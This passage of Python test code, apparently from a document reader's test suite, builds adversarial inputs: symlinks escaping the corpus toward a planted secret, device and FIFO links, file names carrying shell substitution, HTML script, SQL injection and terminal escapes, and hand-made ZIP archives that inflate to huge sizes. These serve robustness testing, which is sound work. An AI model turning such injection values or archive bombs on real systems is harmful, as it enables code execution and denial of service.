    (corpus / "further.txt").symlink_to("out.txt")
    return {}


def folder_out(corpus: Path, bait: Bait) -> dict[str, str]:
    (corpus / "outside").symlink_to(bait.secret.parent)
    return {}


def link_within(corpus: Path, _: Bait) -> dict[str, str]:
    (corpus / "meant.txt").write_bytes(SAID)
    (corpus / "link.txt").symlink_to("meant.txt")
    return {"meant.txt": "link_within", "link.txt": "link_within"}


def links_to_devices(corpus: Path, _: Bait) -> dict[str, str]:
    for number, device in enumerate(("/dev/zero", "/dev/stdin", "/proc/self/mem", "/dev/random")):
        (corpus / f"device {number}.txt").symlink_to(device)
    (corpus / "nowhere.txt").symlink_to("nothing here")
    return {}


def fifo(corpus: Path, _: Bait) -> dict[str, str]:
    os.mkfifo(corpus / "fifo.txt")
    (corpus / "to a fifo.md").symlink_to("fifo.txt")
    return {}


def unix_socket(corpus: Path, _: Bait) -> dict[str, str]:
    here = os.getcwd()
    os.chdir(corpus)  # the whole path may be too long for one
    with socket.socket(socket.AF_UNIX) as made:
        made.bind("socket.txt")
    os.chdir(here)
    return {}


def folders_named_like_files(corpus: Path, _: Bait) -> dict[str, str]:
    (corpus / "folder.pdf").mkdir()
    (corpus / "folder.pdf" / "in.txt").write_bytes(SAID)
    return {"folder.pdf/in.txt": "folders_named_like_files"}


def deep_folders(corpus: Path, _: Bait) -> dict[str, str]:
    deep = "/".join(["deep"] * 150)
    (corpus / deep).mkdir(parents=True)
    (corpus / deep / "in.txt").write_bytes(SAID)
    return {f"{deep}/in.txt": "deep_folders"}


def odd_names(corpus: Path, _: Bait) -> dict[str, str]:
    names = (
        "a\nb.txt", "a\r\n\r\nb.txt", "\u202etxt.fdp.txt", "\x1b[2J\x1b]0;owned\x07.txt",
        "x" * 251 + ".txt", "<img src=x onerror=alert(1)>.txt", "' OR 1=1 --.txt",
        "-rf.txt", "--help.txt", "%2e%2e%2fx.txt",
        " .txt", "...txt", "CON.txt", "\u0645\u0644\u0641\u200f.txt", "e\u0301.txt", "\u00e9.txt",
        "[bold red]x.txt", "a\\b.txt", "\U0001f4a3.txt", "$(id).txt", "a\tb.txt", "\u2028.txt",
    )  # fmt: skip
    for name in names:
        (corpus / name).write_bytes(SAID)
    return dict.fromkeys((name for name in names if not name.startswith(".")), "odd_names")


def names_that_are_no_text(corpus: Path, _: Bait) -> dict[str, str]:
    for name in (b"\xff\xfe.txt", b"cat \xc3.pdf", b"\xed\xa0\x80.md"):
        Path(os.fsdecode(os.fsencode(corpus) + b"/" + name)).write_bytes(SAID)
    names = (os.fsdecode(name) for name in (b"\xff\xfe.txt", b"cat \xc3.pdf", b"\xed\xa0\x80.md"))
    return dict.fromkeys(names, "names_that_are_no_text")


def no_type(corpus: Path, _: Bait) -> dict[str, str]:
    names = ("noend", "script.sh", "image.png", "a.docm", "a.txt.exe", "x.")
    for name in names:
        (corpus / name).write_bytes(SAID)
    return dict.fromkeys(names, "no_type")


def capitals(corpus: Path, _: Bait) -> dict[str, str]:
    (corpus / "LOUD.PDF").write_bytes(valid("pdf")[:50])
    (corpus / "Loud.DocX").write_bytes(valid("docx")[:500])
    return {"LOUD.PDF": "capitals", "Loud.DocX": "capitals"}


def holes(corpus: Path, _: Bait) -> dict[str, str]:
    with (corpus / "holes.txt").open("wb") as file:
        file.truncate(5_000_000_000)
    return {"holes.txt": "holes"}


PLACES: tuple[Callable[[Path, Bait], dict[str, str]], ...] = (
    link_to_itself, folder_within_itself, link_out, folder_out, link_within, links_to_devices, fifo,
    unix_socket, folders_named_like_files, deep_folders, odd_names, names_that_are_no_text, no_type,
    capitals, holes,
)  # fmt: skip


# Archives by hand, of members that are packed once.


@cache
def _deflated(size: int) -> tuple[bytes, int, int]:
    """Spaces in XML, packed: the bytes, their unpacked size and their checksum."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece, packed, crc = b" " * 1_000_000, b"", 0
    for _ in range(size // len(piece)):
        packed += packer.compress(piece)
        crc = binascii.crc32(piece, crc)
    return packed + packer.flush(), size, crc


def _with_raw(suffix: str, name: str, raw: tuple[bytes, int, int]) -> bytes:
    """A whole archive with one more member, packed already, that says what it likes of its size."""
    content, listed, count = b"", b"", 0
    packed = {
        held: (_packed(data), len(data), binascii.crc32(data))
        for held, data in members(suffix).items()
    }
    for held, (data, size, crc) in (packed | {name: raw}).items():
        listed += _listed(held, data, size, crc, len(content))
        content += _local(held, data, size, crc)
        count += 1
    return content + listed + _end(count, len(listed), len(content))


def _packed(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _local(name: str, packed: bytes, size: int, crc: int) -> bytes:
    head = struct.pack(
        "<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(packed), size, len(name), 0
    )
    return head + name.encode() + packed


def _listed(name: str, packed: bytes, size: int, crc: int, at: int) -> bytes:
    head = struct.pack(
        "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(packed), size, len(name), 0, 0, 0,
        0, 0, at,
    )  # fmt: skip
    return head + name.encode()


def _end(count: int, length: int, at: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, length, at, 0)


def _sheet(rows: str, before: str = "", after: str = "") -> bytes:
    main = f'<worksheet xmlns="{SHEET}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'
    return changed("xlsx", main=main)


def _pdf_of(stream: bytes, said: str) -> bytes:
    """A PDF whose one page draws a stream that is packed already."""
    content = drawn("STREAM")
    return content.replace(
        b"<< /Length 6 >>\nstream\nSTREAM",
        f"<< /Length {len(stream)} {said} >>\nstream\n".encode() + stream,
    )
